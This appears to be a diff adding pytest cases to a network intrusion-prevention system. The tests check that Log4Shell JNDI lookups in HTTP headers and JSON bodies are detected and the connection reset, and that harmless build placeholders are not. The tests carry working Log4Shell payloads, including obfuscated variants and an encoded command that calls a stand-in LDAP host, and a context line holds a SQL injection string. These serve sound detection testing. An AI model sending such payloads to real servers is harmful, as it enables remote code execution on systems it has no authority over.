@@ -137,6 +137,34 @@ def test_a_range_request_for_hundreds_of_overlapping_ranges_is_reset_and_a_playe
     assert WorkerVerdict.RESET_FLOW not in verdicts and player.threats() == []
 
 
+@pytest.mark.parametrize(
+    ("header", "value"),
+    [
+        ("User-Agent", "${jndi:ldap://198.18.0.9:1389/Basic/Command/Base64/aWQ=}"),
+        ("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.18.0.9/a}"),
+        ("Accept", "${${lower:j}ndi:dns://198.18.0.9/b}"),  # a header the injection checks skip
+    ],
+)
+def test_a_jndi_lookup_in_any_header_is_log4shell_and_reset(header: str, value: str) -> None:
+    lab = Lab()
+    headers = [h for h in CURL if h[0] != header] + [(header, value)]
+    verdicts = lab.send(flow(request("GET", headers), 42400))
+    assert verdicts[-1] is WorkerVerdict.RESET_FLOW
+    [event] = lab.threats("log4shell")
+    assert event["action"] == "reset" and event["group"] == "web"
+
+
+def test_a_jndi_lookup_in_a_json_body_is_log4shell_and_a_build_property_is_not() -> None:
+    lab = Lab()
+    body = b'{"username": "\\u0024{jndi:ldap://198.18.0.9/c}", "password": "x"}'
+    lab.send(flow(request("POST", [*CURL, ("Content-Type", "application/json")], body), 42401))
+    assert [e["name"] for e in lab.threats()] == ["log4shell"]
+    quiet = Lab()
+    body = b'{"artifact": "app-${project.version}.jar", "home": "${HOME}"}'
+    verdicts = quiet.send(flow(request("POST", [*CURL, ("Content-Type", "application/json")], body), 42402))
+    assert WorkerVerdict.RESET_FLOW not in verdicts and quiet.threats() == []
+
+
 def test_the_same_header_injection_is_an_alert_in_monitor() -> None:
     lab = Lab()
     lab.send(flow(request("GET", [*CURL, ("X-Api-Filter", "1' OR '1'='1")]), 42200, server=DB))
